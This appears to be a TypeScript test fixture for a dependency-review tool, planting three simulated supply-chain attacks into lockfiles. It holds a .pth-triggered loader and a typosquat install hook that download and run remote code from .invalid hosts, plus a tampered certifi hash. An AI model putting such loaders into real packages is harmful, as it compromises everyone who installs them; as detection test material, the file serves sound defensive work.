import { type ServedProject, sha256Of } from '../../__tests__/support/index-server.js';
import { sdist } from '../../__tests__/support/sdist.js';
import { type BuiltDistribution, wheel } from '../../__tests__/support/wheel.js';

/**
 * Stand-ins for three attacks, built when the demo runs. They have the shape of the real thing and none of its force: hosts end in
 * `.invalid`, what would be fetched does not exist, and nothing here is ever installed, imported or run.
 */

/** Shaped like the 2026 takeovers: an update whose `.pth` starts a downloader at every Python start. */
const LABELS = 'parcel-labels';
const LABELS_CODE = 'def render(parcel):\n    return f"[{parcel}]"\n';
const LABELS_BOOT = `import os
import subprocess
import sys
import tempfile
import urllib.request


def start():
    path = os.path.join(tempfile.gettempdir(), "labels-update.pyz")
    with urllib.request.urlopen("https://cdn.parcel-labels.invalid/update.pyz") as answer:
        with open(path, "wb") as file:
            file.write(answer.read())
    subprocess.Popen([sys.executable, path], start_new_session=True, stdout=subprocess.DEVNULL)


start()
`;

/** Shaped like a typosquat: a name one slip away from a popular one, and an install command of its own. */
const LOOK_ALIKE = 'pydanitc';
const LOOK_ALIKE_SETUP = `import os
import subprocess
import sys
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("https://files.pydanitc.invalid/helper.py", "helper.py")
        subprocess.Popen([sys.executable, "helper.py"])


setup(name="${LOOK_ALIKE}", version="2.11.7", packages=["${LOOK_ALIKE}"], cmdclass={"install": Install})
`;

const labels = (version: string, files: Readonly<Record<string, string>>): BuiltDistribution =>
  wheel(
    { 'parcel_labels/__init__.py': LABELS_CODE, ...files },
    { name: LABELS, version, summary: 'Parcel labels as text.' },
  );

const BASE_LABELS = labels('1.4.1', {});
const HEAD_LABELS = labels('1.4.2', {
  'parcel_labels/_boot.py': LABELS_BOOT,
  'parcel_labels_init.pth': 'import parcel_labels._boot\n',
});
const SQUAT = sdist(
  { 'setup.py': LOOK_ALIKE_SETUP, [`${LOOK_ALIKE}/__init__.py`]: '' },
  { name: LOOK_ALIKE, version: '2.11.7' },
);

const HOUR = 3_600_000;
const at = (now: number, hoursAgo: number): string => new Date(now - hoursAgo * HOUR).toISOString();

/** What the embedded index adds to PyPI: an established project with a fresh release, and a project five hours old. */
export const plantedProjects = (now: number): readonly ServedProject[] => [
  {
    name: LABELS,
    files: [
      { ...BASE_LABELS, uploadTime: at(now, 24 * 200) },
      { ...HEAD_LABELS, uploadTime: at(now, 24 * 6) },
    ],
  },
  { name: LOOK_ALIKE, files: [{ ...SQUAT, uploadTime: at(now, 24 * 5) }] },
];

/** Lockfile texts by path of one side of the pull request. */
export type LockTexts = Readonly<Record<string, string>>;

/** The base also has the established project, at the version that is still sound. */
export const plantBase = (texts: LockTexts): LockTexts => withPackage(texts, LABELS, '1.4.1', BASE_LABELS);

/** The head takes its update, the look-alike, and an altered hash for a file of certifi. */
export const plantHead = (texts: LockTexts): LockTexts => {
  const planted = withPackage(withPackage(texts, LABELS, '1.4.2', HEAD_LABELS), LOOK_ALIKE, '2.11.7', SQUAT);
  return { ...planted, 'uv.lock': withAlteredHash(planted['uv.lock'] ?? '', 'certifi-2024.8.30-py3-none-any.whl') };
};

function withPackage(
  texts: LockTexts,
  name: string,
  version: string,
  { filename, bytes }: BuiltDistribution,
): LockTexts {
  const hash = `sha256:${sha256Of(bytes)}`;
  const url = `https://files.pythonhosted.org/packages/${hash.slice(7, 9)}/${filename}`;
  const file = `{ url = "${url}", hash = "${hash}", size = ${bytes.length} }`;
  const files = filename.endsWith('.whl') ? `wheels = [\n    ${file},\n]` : `sdist = ${file}`;
  const entry = `[[package]]\nname = "${name}"\nversion = "${version}"\nsource = { registry = "https://pypi.org/simple" }\n${files}\n`;
  return {
    ...texts,
    'uv.lock': required(texts['uv.lock'] ?? '', `${entry}\n`, name),
    'requirements.txt': `${texts['requirements.txt']}${name}==${version} \\\n    --hash=${hash}\n    # via parcel-tracker\n`,
  };
}

/** The entry in its alphabetical place, and the project's own edge to it. */
function required(lock: string, entry: string, name: string): string {
  const entries = lock.split(/(?=^\[\[package\]\]$)/mu);
  const place = entries.findIndex((text) => (/^name = "(?<name>[^"]+)"$/mu.exec(text)?.groups?.['name'] ?? '') > name);
  const placed = place === -1 ? [...entries, `\n${entry.trimEnd()}\n`] : entries.toSpliced(place, 0, entry);
  return placed
    .join('')
    .replace(/(?<=^name = "parcel-tracker"\n[\s\S]*?^dependencies = \[\n)/mu, `    { name = "${name}" },\n`);
}

function withAlteredHash(lock: string, filename: string): string {
  const start = lock.indexOf(filename);
  const digit = lock.indexOf('hash = "sha256:', start) + 'hash = "sha256:'.length;
  const altered = lock[digit] === '0' ? '1' : '0';
  return `${lock.slice(0, digit)}${altered}${lock.slice(digit + 1)}`;
}
